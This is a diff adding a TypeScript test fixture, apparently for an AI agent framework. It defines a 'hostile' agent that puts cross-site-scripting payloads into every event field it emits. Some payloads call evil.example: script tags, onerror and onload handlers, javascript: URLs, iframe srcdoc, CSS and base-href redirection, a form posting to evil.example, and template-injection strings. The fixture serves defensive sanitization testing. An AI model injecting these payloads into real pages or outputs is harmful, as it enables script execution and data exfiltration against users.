@@ -1,0 +1,69 @@
+/** An agent that puts what would do harm into everything that it can name. */
+import { agent } from '../../../src/agents/generator.ts'
+import { type Component, emit } from '../../../src/core/agent.ts'
+
+const SCRIPT = `globalThis.harmed=1;fetch('https://evil.example/')`
+
+/** Each of these has done something on some page once. */
+export const ATTACKS: readonly string[] = [
+  `<script>${SCRIPT}</script>`,
+  `<img src=x onerror="${SCRIPT}">`,
+  `<svg onload="${SCRIPT}"><a xlink:href="javascript:${SCRIPT}">x</a></svg>`,
+  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
+  `[click](javascript:globalThis.harmed=1) [click](data:text/html,<script>1</script>) <javascript:globalThis.harmed=1>`,
+  `![x](https://evil.example/pixel.png) ![x](x" onerror="${SCRIPT})`,
+  `"><style>*{background:url(https://evil.example/)}</style><base href="https://evil.example/">`,
+  `<form action="https://evil.example/"><input name=key></form>`,
+  '```\n</code></pre><script>globalThis.harmed=1</script>\n```',
+  `{{constructor.constructor('globalThis.harmed=1')()}}`,
+]
+
+const all = ATTACKS.join('\n\n')
+const short = ATTACKS[1]!.slice(0, 200)
+
+const member: Component = agent<unknown>({
+  id: `member ${short}`.slice(0, 200),
+  async *run() {
+    yield all
+    throw new Error(all)
+  },
+})
+
+export const hostile: Component = agent<unknown>({
+  id: 'hostile',
+  name: `Hostile ${short}`,
+  description: all,
+  async *run(_input, context) {
+    yield all
+    yield emit('reasoning.delta', { text: all })
+    yield emit('tool.drafted', { call: 'draft', name: short, delta: all })
+    yield emit('tool.called', { call: 'draft', name: short, input: { [short]: all } })
+    yield emit('tool.progressed', { call: 'draft', output: all })
+    yield emit('tool.completed', { call: 'draft', name: short, output: { html: all } })
+    yield emit('tool.called', { call: 'other', name: short, input: all })
+    yield emit('tool.failed', { call: 'other', name: short, error: { code: short, message: all } })
+    yield emit('model.requested', { request: 'r', model: short, provider: short })
+    yield emit('model.responded', { request: 'r', model: short, finish: short, usage: { inputTokens: 1 } })
+    yield emit('step.started', { step: 'a', name: short, details: all })
+    yield emit('step.completed', { step: 'a', name: short, output: all })
+    yield emit('step.skipped', { step: 'b', name: short, reason: all })
+    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${SCRIPT}</script></svg>`
+    yield emit('artifact.added', { artifact: 'svg', name: short, mediaType: 'image/svg+xml', text: svg, last: true })
+    const bytes = Buffer.from(svg).toString('base64')
+    yield emit('artifact.added', { artifact: 'html', name: short, mediaType: 'text/html', bytes, last: true })
+    yield emit('artifact.added', { artifact: 'png', name: short, mediaType: 'image/png', bytes, last: true })
+    yield emit('artifact.added', {
+      artifact: 'url',
+      name: short,
+      mediaType: short,
+      url: 'javascript:globalThis.harmed=1',
+    })
+    yield emit('source.cited', { source: 's', title: short, url: 'javascript:globalThis.harmed=1' })
+    yield emit('state.replaced', { state: { [short]: all } })
+    yield emit('state.patched', { patch: [{ op: 'add', path: `/${short}`, value: all }] })
+    yield emit('custom.emitted', { name: short, value: all })
+    await context.call(member, all).catch(() => {})
+    await context.ask({ prompt: all, kind: 'choice', details: { choices: [short, 'go on'], html: all } })
+    yield emit('run.failed', { error: { code: short, message: all, details: { html: all } } })
+  },
+})
